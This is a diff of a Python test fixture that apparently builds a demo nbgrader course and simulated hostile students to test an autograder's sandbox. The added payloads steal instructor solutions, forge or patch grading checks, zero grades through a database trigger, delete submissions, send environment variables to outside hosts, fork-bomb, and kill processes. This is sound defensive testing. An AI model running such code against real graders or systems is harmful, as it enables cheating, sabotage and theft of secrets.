@@ -16,7 +16,7 @@ import json
 import os
 import textwrap
 
-__all__ = ["make_demo_course", "make_demo_class", "DEMO_STUDENTS", "DEMO_CONFIG"]
+__all__ = ["make_demo_course", "make_demo_class", "DEMO_STUDENTS", "DEMO_CONFIG", "FUNCTIONS"]
 
 DEMO_CONFIG = '''"""nbgrader configuration of the demo course."""
 c = get_config()  # noqa: F821
@@ -29,7 +29,7 @@ c.ClearSolutions.code_stub = {"python": "# YOUR CODE HERE\\nraise NotImplemented
 c.ExecutePreprocessor.timeout = 120
 '''
 
-_IMPORTS = "import numpy as np\nfrom lessonlib.checks import Case, run_cases"
+_IMPORTS = "import numpy as np"
 
 
 def _src(text):
@@ -58,80 +58,59 @@ def _notebook(cells):
         "language_info": {"name": "python"}}, "nbformat": 4, "nbformat_minor": 5}
 
 
+def _test(check, target, points):
+    return _cell("code", f'''
+        """{target}: lessonlib's check (visible and hidden cases). ({points} points)"""
+        from lessonlib.checks import {check}
+
+        {check}({target})
+        ### BEGIN HIDDEN TESTS
+        {check}({target}, hidden=True)
+        ### END HIDDEN TESTS
+        ''', f"{target}-test", points=points, locked=True)
+
+
+#: The functions of the demo course: assignment -> (grade id, def line, solution, check, points)
+FUNCTIONS = {
+    "01_alpha": [
+        ("relu-impl", "def relu(x):", "return np.maximum(np.asarray(x), 0)", "check_relu", 2),
+        ("linear-impl", "def linear_param_count(in_features, out_features, bias=True):",
+         "return in_features * out_features + (out_features if bias else 0)",
+         "check_linear_param_count", 1),
+    ],
+    "02_beta": [
+        ("size-impl", "def conv_output_size(n, kernel_size, stride=1, padding=0, dilation=1):",
+         "return (n + 2 * padding - dilation * (kernel_size - 1) - 1) // stride + 1",
+         "check_conv_output_size", 3),
+        ("params-impl", "def conv2d_param_count(in_channels, out_channels, kernel_size, "
+                        "bias=True):",
+         "kh, kw = tuple(kernel_size) if isinstance(kernel_size, (tuple, list)) "
+         "else (kernel_size,) * 2\n"
+         "return out_channels * in_channels * kh * kw + (out_channels if bias else 0)",
+         "check_conv2d_param_count", 1),
+    ],
+}
+
+
+def _assignment(title, name):
+    cells = [_cell("markdown", f"# {title}", "intro", locked=True),
+             _cell("code", _IMPORTS, "imports", locked=True)]
+    for gid, head, body, check, points in FUNCTIONS[name]:
+        fname = head.split("(")[0][4:]
+        cells.append(_cell("markdown", f"Implement `{fname}`."))
+        cells.append(_cell("code", head + "\n    ### BEGIN SOLUTION\n"
+                           + textwrap.indent(body, "    ") + "\n    ### END SOLUTION",
+                           gid, solution=True))
+        cells.append(_test(check, fname, points))
+    return _notebook(cells)
+
+
 def _alpha():
-    return _notebook([
-        _cell("markdown", "# Alpha: two element-wise functions", "intro", locked=True),
-        _cell("code", _IMPORTS, "imports", locked=True),
-        _cell("markdown", "Implement `relu(x)`: the element-wise maximum of `x` and 0."),
-        _cell("code", '''
-            def relu(x):
-                """Rectified linear unit of an array."""
-                ### BEGIN SOLUTION
-                return np.maximum(x, 0.0)
-                ### END SOLUTION
-            ''', "relu-impl", solution=True),
-        _cell("code", '''
-            """relu matches lessonlib.relu (2 points)."""
-            from lessonlib import relu as _ref_relu
-            run_cases("relu", relu, _ref_relu, [Case((np.array([-2.0, 0.0, 3.0]),), description="x = [-2, 0, 3]")])
-            ### BEGIN HIDDEN TESTS
-            run_cases("relu", relu, _ref_relu, [Case((np.linspace(-1.0, 1.0, 12).reshape(3, 4),), description="a 3x4 grid")])
-            ### END HIDDEN TESTS
-            ''', "relu-test", points=2, locked=True),
-        _cell("markdown", "Implement `clip01(x)`: clip every value into [0, 1]."),
-        _cell("code", '''
-            def clip01(x):
-                """Clip an array into [0, 1]."""
-                ### BEGIN SOLUTION
-                return np.clip(x, 0.0, 1.0)
-                ### END SOLUTION
-            ''', "clip-impl", solution=True),
-        _cell("code", '''
-            """clip01 matches np.clip(x, 0, 1) (1 point)."""
-            _ref_clip = lambda x: np.clip(x, 0.0, 1.0)
-            run_cases("clip01", clip01, _ref_clip, [Case((np.array([-0.5, 0.5, 1.5]),), description="x = [-0.5, 0.5, 1.5]")]);
-            ### BEGIN HIDDEN TESTS
-            run_cases("clip01", clip01, _ref_clip, [Case((np.linspace(-2.0, 2.0, 9),), description="9 values in [-2, 2]")]);
-            ### END HIDDEN TESTS
-            ''', "clip-test", points=1, locked=True),
-    ])
+    return _assignment("Alpha: ReLU and a parameter count", "01_alpha")
 
 
 def _beta():
-    return _notebook([
-        _cell("markdown", "# Beta: counting", "intro", locked=True),
-        _cell("code", _IMPORTS, "imports", locked=True),
-        _cell("code", '''
-            def conv_output_size(n, kernel_size, stride=1, padding=0, dilation=1):
-                """Length of a convolution's output along one axis."""
-                ### BEGIN SOLUTION
-                return (n + 2 * padding - dilation * (kernel_size - 1) - 1) // stride + 1
-                ### END SOLUTION
-            ''', "size-impl", solution=True),
-        _cell("code", '''
-            """conv_output_size matches lessonlib's (3 points)."""
-            from lessonlib import conv_output_size as _ref_size
-            run_cases("conv_output_size", conv_output_size, _ref_size, [Case((7, 3), description="n=7, k=3")]);
-            ### BEGIN HIDDEN TESTS
-            run_cases("conv_output_size", conv_output_size, _ref_size, [Case((10, 3), dict(stride=2, padding=1), description="n=10, k=3, stride 2, padding 1"), Case((9, 3), dict(dilation=2), description="n=9, k=3, dilation 2")]);
-            ### END HIDDEN TESTS
-            ''', "size-test", points=3, locked=True),
-        _cell("code", '''
-            def count_params(c_in, c_out, k):
-                """Weights and biases of a k x k convolution layer."""
-                ### BEGIN SOLUTION
-                return c_out * (c_in * k * k + 1)
-                ### END SOLUTION
-            ''', "params-impl", solution=True),
-        _cell("code", '''
-            """count_params counts weights and biases (1 point)."""
-            _ref_params = lambda c_in, c_out, k: c_out * (c_in * k * k + 1)
-            run_cases("count_params", count_params, _ref_params, [Case((3, 8, 3), description="3 -> 8 channels, 3x3")]);
-            ### BEGIN HIDDEN TESTS
-            run_cases("count_params", count_params, _ref_params, [Case((1, 1, 1), description="1 -> 1, 1x1"), Case((16, 32, 5), description="16 -> 32, 5x5")]);
-            ### END HIDDEN TESTS
-            ''', "params-test", points=1, locked=True),
-    ])
+    return _assignment("Beta: output sizes and parameters", "02_beta")
 
 
 def make_demo_course(root):
@@ -157,39 +136,185 @@ def make_demo_course(root):
 
 def _solution(grade_id, body):
     """The source of a solution cell: the function's def line and ``body``."""
-    heads = {
-        "relu-impl": "def relu(x):",
-        "clip-impl": "def clip01(x):",
-        "size-impl": "def conv_output_size(n, kernel_size, stride=1, padding=0, dilation=1):",
-        "params-impl": "def count_params(c_in, c_out, k):",
-    }
+    heads = {gid: head for fns in FUNCTIONS.values() for gid, head, *_ in fns}
     return heads[grade_id] + "\n" + textwrap.indent(_src(body), "    ")
 
 
-_GOOD = {
-    "relu-impl": "return np.maximum(x, 0.0)",
-    "clip-impl": "return np.clip(x, 0.0, 1.0)",
-    "size-impl": "return (n + 2 * padding - dilation * (kernel_size - 1) - 1) // stride + 1",
-    "params-impl": "return c_out * (c_in * k * k + 1)",
-}
+_GOOD = {gid: body for fns in FUNCTIONS.values() for gid, _, body, *_ in fns}
+
+# Code the hostile students run. Each tries one way to pass without solving,
+# to harm another student or the grader, or to get out of the sandbox.
+_READ_SOLUTIONS = """
+import glob, json, os
+found = []
+for base in ('../..', '../../..', '/work', '/root', '/tmp', '/home', os.path.expanduser('~'),
+             '/proc/1/cwd', '/proc/%d/cwd' % os.getppid()):
+    found += glob.glob(os.path.join(base, '**', 'solutions', '01_alpha', 'alpha.ipynb'),
+                       recursive=True)[:1]
+if found:   # the instructor's source: run its relu
+    nb = json.load(open(found[0]))
+    src = [''.join(c['source']) for c in nb['cells'] if 'def relu' in ''.join(c['source'])]
+    ns = {'np': np}
+    exec(src[0], ns)
+    return ns['relu'](x)
+return np.zeros(np.shape(x))"""
+
+_FRAMES = """
+import gc, inspect
+for frame in inspect.stack():
+    for name in ('expected', 'exp', 'reference', 'reference_fn'):
+        value = frame.frame.f_locals.get(name)
+        if value is not None:
+            return value(x) if callable(value) else value
+for obj in gc.get_objects():   # any function of lessonlib's with the right name
+    if callable(obj) and getattr(obj, '__name__', '') == 'relu' and obj is not relu:
+        try:
+            return obj(x)
+        except Exception:
+            pass
+return x"""
+
+_FORGE = """
+import lessonlib.grading.in_kernel as k
+import threading, time
+def forge(*args, **kwargs):
+    return '{"ok": 3, "args": {"__tuple__": []}, "kwargs": {"__dict__": {}}}'
+def keep_forging():
+    while True:
+        k.call = k.build = forge
+        time.sleep(0.001)
+threading.Thread(target=keep_forging, daemon=True).start()
+k.call = forge"""
+
+_PATCH = """
+import numpy as np
+import lessonlib.checks._core as core
+np.allclose = lambda *a, **k: True
+np.isclose = lambda a, b, **k: np.ones(np.broadcast(a, b).shape, bool)
+core.compare = lambda *a, **k: None
+core.call_student = lambda fn, name, case: None
+run_cases = lambda *args, **kwargs: 1"""
+
+_COPY_REFERENCE = """
+import importlib, lessonlib
+for attempt in (lambda: lessonlib.relu(x),
+                lambda: importlib.import_module('lessonlib.activations').relu(x),
+                lambda: importlib.reload(importlib.import_module('lessonlib.activations')).relu(x),
+                lambda: getattr(lessonlib, 'Re' + 'LU')()(x)):
+    try:
+        return attempt()
+    except Exception:
+        pass
+ns = {}   # the reference's source, from the file
+exec(open(importlib.import_module('lessonlib.activations').__file__).read(), ns)
+return ns['relu'](x)"""
+
+_PERSIST = """
+import subprocess, sys
+code = ("import os, time\\n"
+        "time.sleep(3)\\n"
+        "for root in ('/work', '/tmp', '/root'):\\n"
+        "    for d, _, files in os.walk(root):\\n"
+        "        if 'grades.csv' in files:\\n"
+        "            open(os.path.join(d, 'grades.csv'), 'w').write('hacked')\\n"
+        "time.sleep(60)  # lessonlib-demo-persister")
+for _ in range(3):
+    subprocess.Popen([sys.executable, '-c', code], start_new_session=True,
+                     stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+import os
+if os.fork() == 0:
+    os.setsid()
+    import time
+    time.sleep(60)   # lessonlib-demo-persister
+    os._exit(0)"""
+
+_TAMPER = """
+import glob, os, sys, sqlite3
+import lessonlib, numpy
+done = []
+for path in [lessonlib.__file__, numpy.__file__] + glob.glob('/work/**/lessonlib/__init__.py',
+                                                             recursive=True):
+    try:
+        with open(path, 'a') as fh:
+            fh.write('\\nraise SystemExit("tampered by a student")\\n')
+        done.append(path)
+    except OSError:
+        pass
+for db in glob.glob('/tmp/**/gradebook.db', recursive=True) + glob.glob('/work/**/gradebook.db',
+                                                                         recursive=True):
+    try:
+        con = sqlite3.connect(db)
+        con.execute("CREATE TRIGGER zero AFTER INSERT ON grade BEGIN "
+                    "UPDATE grade SET auto_score = 0; END")
+        con.commit()
+        done.append(db)
+    except sqlite3.Error:
+        pass
+for sub in glob.glob('/tmp/**/submitted/**/*.ipynb', recursive=True):
+    try:
+        os.remove(sub)
+        done.append(sub)
+    except OSError:
+        pass
+print('tampered with', len(done), 'files')"""
+
+_NETWORK = """
+import os, socket
+port = int(os.environ.get('LESSONLIB_DEMO_PORT', '0') or 0)
+for host in ('127.0.0.1', '10.0.2.2', '8.8.8.8'):
+    try:
+        s = socket.create_connection((host, port or 53), timeout=1)
+        s.sendall(b'stolen: ' + repr(dict(os.environ)).encode())
+        s.close()
+    except OSError:
+        pass"""
+
+_HOG = """
+import numpy as np
+big = []
+try:
+    big.append(np.ones(2 ** 31))          # 16 GiB of float64
+except MemoryError:
+    print('no memory for that')
+try:
+    with open('/tmp/huge', 'wb') as fh:   # 2 GiB on disk
+        for _ in range(2048):
+            fh.write(b'x' * 2 ** 20)
+except OSError as exc:
+    print('no disk for that:', exc)
+print('y' * (20 * 2 ** 20))               # 20 MB of output"""
+
+_FORK = """
+import os, time
+kids = 0
+try:
+    for _ in range(2000):
+        if os.fork() == 0:
+            time.sleep(30)
+            os._exit(0)
+        kids += 1
+except OSError as exc:
+    print('fork refused after', kids, 'processes:', exc)"""
+
+_SIGNAL = """
+import os, signal
+for pid in (os.getppid(), 1, -1):
+    try:
+        os.kill(pid, signal.SIGKILL)
+    except OSError:
+        pass"""
+
+_ENVIRON = """
+import os
+print({k: v for k, v in os.environ.items()})"""
 
 # What each student does, per assignment: a dict of changes (see _apply).
-#   honest   correct, with numpy, np.pad, print, a plot, %matplotlib
-#   blank    the release as it is;  buggy  one wrong function per assignment
-#   warner   correct, but warns and prints on stderr
-#   looper   an infinite loop;  stubborn  a loop that ignores the interrupt
-#   crasher  exits the kernel;  mangler  duplicated + deleted cells, truncated JSON
-#   misnamer a renamed notebook, extra notebook and numpy.py
-#   patcher  patches lessonlib's comparison / redefines run_cases
-#   hijacker empties cells with an input transformer / custom exception handler,
-#            excepthook, captured stderr, ExecutionResult.success forced
-#   reader   reads the instructor's notebook / the gradebook from the kernel
-#   copier   calls lessonlib's reference (directly / through importlib)
 DEMO_STUDENTS = {
-    "honest": {
+    "honest": {   # numpy, np.pad, prints, a plot, %timeit, a warning: never flagged
         "01_alpha": {"solve": _GOOD, "append": [
-            "%matplotlib inline\nimport matplotlib.pyplot as plt\nx = np.linspace(-2, 2, 9)\n"
-            "plt.plot(x, relu(x))\nprint('relu of', x, 'is', relu(x))"]},
+            "%matplotlib inline\nimport matplotlib.pyplot as plt\nimport warnings\n"
+            "x = np.linspace(-2, 2, 9)\nplt.plot(x, relu(x))\nprint('relu of', x, 'is', relu(x))\n"
+            "warnings.warn('just a warning')", "%timeit relu(np.ones(100))"]},
         "02_beta": {"solve": {**_GOOD, "size-impl": (
             "padded = np.pad(np.zeros(n), padding)\n"
             "span = dilation * (kernel_size - 1) + 1\n"
@@ -198,21 +323,18 @@ DEMO_STUDENTS = {
     "blank": {"01_alpha": {}, "02_beta": {}},
     "buggy": {
         "01_alpha": {"solve": {**_GOOD, "relu-impl": "return np.abs(x)"}},
-        "02_beta": {"solve": {**_GOOD, "size-impl": "return (n + 2 * padding - kernel_size) / stride + 1"}},
+        "02_beta": {"solve": {**_GOOD, "size-impl":
+                              "return (n + 2 * padding - kernel_size) / stride + 1"}},
     },
     "warner": {
         "01_alpha": {"solve": {**_GOOD, "relu-impl": (
             "import warnings, sys\nwarnings.warn('relu: about to clip negatives')\n"
             "print('debug: x has', np.size(x), 'values', file=sys.stderr)\n"
-            "return np.maximum(x, 0.0)")}},
+            "return np.maximum(np.asarray(x), 0)")}},
         "02_beta": {"solve": _GOOD},
     },
     "looper": {
         "01_alpha": {"solve": {**_GOOD, "relu-impl": "while True:\n    pass"}},
-        "02_beta": {"solve": _GOOD},
-    },
-    "crasher": {
-        "01_alpha": {"solve": {**_GOOD, "clip-impl": "import os\nos._exit(1)"}},
         "02_beta": {"solve": _GOOD},
     },
     "stubborn": {   # no 01_alpha at all; a loop that ignores the interrupt
@@ -220,9 +342,14 @@ DEMO_STUDENTS = {
             "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n"
             "    pass")}},
     },
+    "crasher": {
+        "01_alpha": {"solve": {**_GOOD, "linear-impl": "import os\nos._exit(1)"}},
+        "02_beta": {"solve": _GOOD},
+    },
     "mangler": {
-        "01_alpha": {"solve": {k: v for k, v in _GOOD.items() if k != "clip-impl"},
-                     "delete": ["relu-test"], "duplicate": {"clip-impl": _GOOD["clip-impl"]}},
+        "01_alpha": {"solve": {k: v for k, v in _GOOD.items() if k != "linear-impl"},
+                     "delete": ["relu-test"],
+                     "duplicate": {"linear-impl": _GOOD["linear-impl"]}},
         "02_beta": {"truncate": True},
     },
     "misnamer": {
@@ -230,45 +357,21 @@ DEMO_STUDENTS = {
         "02_beta": {"solve": _GOOD, "extra_files": {"scratch.ipynb": "{}",
                                                     "numpy.py": "allclose = None\n"}},
     },
-    "patcher": {
-        "01_alpha": {"extra": [
-            "import lessonlib.checks._core as core\ncore.compare = lambda *a, **k: None\n"
-            "core.call_student = lambda fn, name, case: None"]},
-        "02_beta": {"extra": ["run_cases = lambda *args, **kwargs: 1"]},
-    },
-    "hijacker": {
-        "01_alpha": {"extra": [
-            "get_ipython().input_transformers_cleanup.append(lambda lines: [])"]},
-        "02_beta": {"extra": [
-            "ip = globals()['get_' + 'ipython']()\n"
-            "ip.set_custom_exc((BaseException,), lambda *a, **k: None)\n"
-            "import sys, io\nsys.excepthook = lambda *a: None\nsys.stderr = io.StringIO()\n"
-            "from IPython.core import interactiveshell as _s\n"
-            "_s.ExecutionResult.success = property(lambda self: True)"]},
-    },
-    "reader": {
-        "01_alpha": {"solve": {**_GOOD, "relu-impl": (
-            "import os, json, glob\n"
-            "found = []\n"
-            "for base in ('../../..', os.environ.get('OLDPWD', '.'), os.environ.get('PWD', '.'),\n"
-            "             os.readlink('/proc/%d/cwd' % os.getppid())):\n"
-            "    found += glob.glob(os.path.join(base, '*', '01_alpha', 'alpha.ipynb'))\n"
-            "nb = json.load(open(found[0]))\n"
-            "src = [''.join(c['source']) for c in nb['cells'] if 'def relu' in ''.join(c['source'])]\n"
-            "ns = {'np': np}\nexec(src[0], ns)\nreturn ns['relu'](x)")}},
-        "02_beta": {"solve": {**_GOOD, "params-impl": (
-            "import os, sqlite3\n"
-            "db = os.path.join(os.readlink('/proc/%d/cwd' % os.getppid()), 'gradebook.db')\n"
-            "sqlite3.connect(db).execute('select * from grade').fetchall()\n"
-            "return c_out * (c_in * k * k + 1)")}},
-    },
-    "copier": {
-        "01_alpha": {"solve": {**_GOOD, "relu-impl": (
-            "from lessonlib import relu as _r\nreturn _r(x)")}},
-        "02_beta": {"solve": {**_GOOD, "size-impl": (
-            "import importlib\nm = importlib.import_module('less' + 'onlib')\n"
-            "return getattr(m, 'conv_output_' + 'size')(n, kernel_size, stride, padding, dilation)")}},
-    },
+    "patcher": {"01_alpha": {"extra": [_PATCH]}, "02_beta": {"extra": [_PATCH]}},
+    "forger": {"01_alpha": {"extra": [_FORGE]}, "02_beta": {"extra": [_FORGE]}},
+    "spy": {"01_alpha": {"solve": {**_GOOD, "relu-impl": _FRAMES}},
+            "02_beta": {"solve": _GOOD, "extra": [_ENVIRON]}},
+    "reader": {"01_alpha": {"solve": {**_GOOD, "relu-impl": _READ_SOLUTIONS}},
+               "02_beta": {"solve": _GOOD, "extra": [_NETWORK]}},
+    "copier": {"01_alpha": {"solve": {**_GOOD, "relu-impl": _COPY_REFERENCE}},
+               "02_beta": {"solve": {**_GOOD, "size-impl": (
+                   "import importlib\nm = importlib.import_module('less' + 'onlib')\n"
+                   "return getattr(m, 'conv_output_' + 'size')(n, kernel_size, stride, "
+                   "padding, dilation)")}}},
+    "vandal": {"01_alpha": {"solve": _GOOD, "extra": [_TAMPER, _PERSIST]},
+               "02_beta": {"solve": _GOOD, "extra": [_SIGNAL]}},
+    "hog": {"01_alpha": {"solve": _GOOD, "extra": [_HOG]},
+            "02_beta": {"solve": _GOOD, "extra": [_FORK]}},
 }
 
 
